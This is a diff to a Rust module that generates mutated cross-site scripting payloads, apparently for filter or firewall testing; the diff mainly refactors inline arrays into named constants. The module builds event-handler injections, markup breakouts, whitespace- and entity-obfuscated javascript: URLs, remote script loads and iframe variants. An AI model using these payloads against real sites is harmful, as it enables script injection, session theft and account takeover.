@@ -12,6 +12,15 @@ use super::xss_js::{base64, expression};
 use crate::mutate::{html_entities, join, random_case, transport_layer};
 use crate::{Carrier, Family, Rng, Variant};
 
+/// Attribute separators the tokenizer spec accepts besides a space.
+const SEPARATORS: &[&str] = &["/", "\t", "\n", "\x0c", "  ", "/ ", " /", "\r\n"];
+/// Whitespace after an unquoted value (a `/` would join the value).
+const BETWEEN_ATTRS: &[&str] = &[" ", "\t", "\n"];
+/// What browsers strip before a URL scheme.
+const LEADING_CONTROLS: &[&str] = &[" ", "&#x20;", "\x01", "&#1;", "  "];
+/// Tabs and newlines (raw or as references) that browsers drop inside a scheme.
+const SCHEME_BREAKS: &[&str] = &["\t", "&Tab;", "&#x09;", "&#10;", "&NewLine;", "&#x0A;"];
+
 pub struct XssHtml;
 
 pub static XSS_HTML: XssHtml = XssHtml;
@@ -20,11 +29,7 @@ pub static XSS_HTML: XssHtml = XssHtml;
 const HOSTS: &[(&str, &str, &[&str])] = &[
     ("img", "src=x", &["onerror"]),
     ("svg", "", &["onload"]),
-    (
-        "body",
-        "",
-        &["onload", "onpageshow", "onfocus", "onhashchange"],
-    ),
+    ("body", "", &["onload", "onpageshow", "onfocus", "onhashchange"]),
     ("input", "autofocus", &["onfocus", "onblur", "onfocusin"]),
     ("details", "open", &["ontoggle"]),
     ("video", "src=x", &["onerror", "onloadstart"]),
@@ -33,27 +38,9 @@ const HOSTS: &[(&str, &str, &[&str])] = &[
     ("marquee", "", &["onstart", "onfinish"]),
     ("select", "autofocus", &["onfocus"]),
     ("textarea", "autofocus", &["onfocus"]),
-    (
-        "a",
-        "href=#",
-        &["onmouseover", "onclick", "onpointerenter", "onauxclick"],
-    ),
-    (
-        "div",
-        "",
-        &[
-            "onmouseover",
-            "onpointerover",
-            "onwheel",
-            "onanimationstart",
-            "oncopy",
-        ],
-    ),
-    (
-        "x",
-        "contenteditable",
-        &["onfocus", "onbeforeinput", "onkeydown"],
-    ),
+    ("a", "href=#", &["onmouseover", "onclick", "onpointerenter", "onauxclick"]),
+    ("div", "", &["onmouseover", "onpointerover", "onwheel", "onanimationstart", "oncopy"]),
+    ("x", "contenteditable", &["onfocus", "onbeforeinput", "onkeydown"]),
     ("style", "", &["onload"]),
     ("object", "data=x", &["onerror"]),
     ("animate", "attributeName=x dur=1s", &["onbegin", "onend"]),
@@ -66,38 +53,15 @@ const URL_SLOTS: &[(&str, &str, &str)] = &[
     ("<form><button ", "formaction", ">x</button></form>"),
     ("<object ", "data", "></object>"),
     ("<embed ", "src", ">"),
-    (
-        "<math><maction actiontype=statusline ",
-        "xlink:href",
-        ">click</maction></math>",
-    ),
-    (
-        "<svg><a ",
-        "xlink:href",
-        "><text x=9 y=9>x</text></a></svg>",
-    ),
-    (
-        "<svg><animate attributeName=href ",
-        "values",
-        "/><a><text>x</text></a></svg>",
-    ),
+    ("<math><maction actiontype=statusline ", "xlink:href", ">click</maction></math>"),
+    ("<svg><a ", "xlink:href", "><text x=9 y=9>x</text></a></svg>"),
+    ("<svg><animate attributeName=href ", "values", "/><a><text>x</text></a></svg>"),
     ("<svg><set attributeName=href ", "to", "/></svg>"),
     ("<isindex type=image ", "action", ">"),
     ("<frameset><frame ", "src", ">"),
 ];
-const BREAKOUTS: &[&str] = &[
-    "\">",
-    "'>",
-    "</title>",
-    "</textarea>",
-    "</script>",
-    "-->",
-    "</style>",
-    "\"/>",
-    "'\">",
-    "</noscript>",
-    ">",
-];
+const BREAKOUTS: &[&str] =
+    &["\">", "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "\"/>", "'\">", "</noscript>", ">"];
 
 impl Family for XssHtml {
     fn name(&self) -> &'static str {
@@ -126,12 +90,7 @@ impl Family for XssHtml {
         };
         let (payload, layer) = transport_layer(rng, &payload);
         muts.push(layer);
-        Variant {
-            family: self.name(),
-            mutation: join(&muts),
-            payload,
-            carrier: Carrier::Value,
-        }
+        Variant { family: self.name(), mutation: join(&muts), payload, carrier: Carrier::Value }
     }
 }
 
@@ -142,7 +101,7 @@ fn sep(rng: &mut Rng, muts: &mut Vec<&'static str>) -> &'static str {
         return " ";
     }
     muts.push("separator");
-    *rng.pick(&["/", "\t", "\n", "\x0c", "  ", "/ ", " /", "\r\n"])
+    SEPARATORS[rng.below(SEPARATORS.len())]
 }
 
 fn quoted(rng: &mut Rng, value: &str, muts: &mut Vec<&'static str>) -> String {
@@ -196,11 +155,7 @@ fn event_handler(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> Strin
         out.push_str(&format!("id={}", rng.range(1, 999)));
         unquoted = true;
     }
-    out.push_str(if unquoted {
-        *rng.pick(&[" ", "\t", "\n"])
-    } else {
-        sep(rng, muts)
-    });
+    out.push_str(if unquoted { BETWEEN_ATTRS[rng.below(BETWEEN_ATTRS.len())] } else { sep(rng, muts) });
     out.push_str(&format!("{event}={value}"));
     if rng.chance(0.15) {
         // Left open: the page's own markup supplies the `>`.
@@ -224,11 +179,7 @@ fn script(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
                 ["com", "rs", "io", "ht"][rng.below(4)]
             );
             let src = *rng.pick(&["//", "https://", "http://", "\\\\"]);
-            format!(
-                "<{open}{}src={src}{host}/{}.js></{close}>",
-                sep(rng, muts),
-                rng.range(1, 999)
-            )
+            format!("<{open}{}src={src}{host}/{}.js></{close}>", sep(rng, muts), rng.range(1, 999))
         }
         1 => format!("<{open}{}src=data:,{js}></{close}>", sep(rng, muts)),
         2 => format!("<{open} type=text/javascript>{js}</{close}>"),
@@ -247,13 +198,13 @@ fn script_url(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
     };
     if rng.chance(0.2) {
         muts.push("leading-controls");
-        scheme.push_str(*rng.pick(&[" ", "&#x20;", "\x01", "&#1;", "  "]));
+        scheme.push_str(LEADING_CONTROLS[rng.below(LEADING_CONTROLS.len())]);
     }
     for (i, c) in word.chars().enumerate() {
         scheme.push(c);
         if i > 0 && i < 9 && rng.chance(0.08) {
             muts.push("scheme-whitespace");
-            scheme.push_str(*rng.pick(&["\t", "&Tab;", "&#x09;", "&#10;", "&NewLine;", "&#x0A;"]));
+            scheme.push_str(SCHEME_BREAKS[rng.below(SCHEME_BREAKS.len())]);
         }
     }
     let colon = if rng.chance(0.3) {
@@ -280,10 +231,7 @@ fn data_or_srcdoc(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> Stri
     match rng.below(4) {
         0 => {
             muts.push("data-url");
-            format!(
-                "<iframe src=\"data:text/html,{}\"></iframe>",
-                inner.replace('"', "&quot;")
-            )
+            format!("<iframe src=\"data:text/html,{}\"></iframe>", inner.replace('"', "&quot;"))
         }
         1 => {
             muts.push("data-url");
@@ -293,15 +241,8 @@ fn data_or_srcdoc(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> Stri
         }
         2 => {
             muts.push("srcdoc");
-            let escaped = if rng.chance(0.5) {
-                inner.replace('<', "&lt;").replace('>', "&gt;")
-            } else {
-                inner
-            };
-            format!(
-                "<iframe srcdoc=\"{}\"></iframe>",
-                escaped.replace('"', "&quot;")
-            )
+            let escaped = if rng.chance(0.5) { inner.replace('<', "&lt;").replace('>', "&gt;") } else { inner };
+            format!("<iframe srcdoc=\"{}\"></iframe>", escaped.replace('"', "&quot;"))
         }
         _ => {
             muts.push("style");
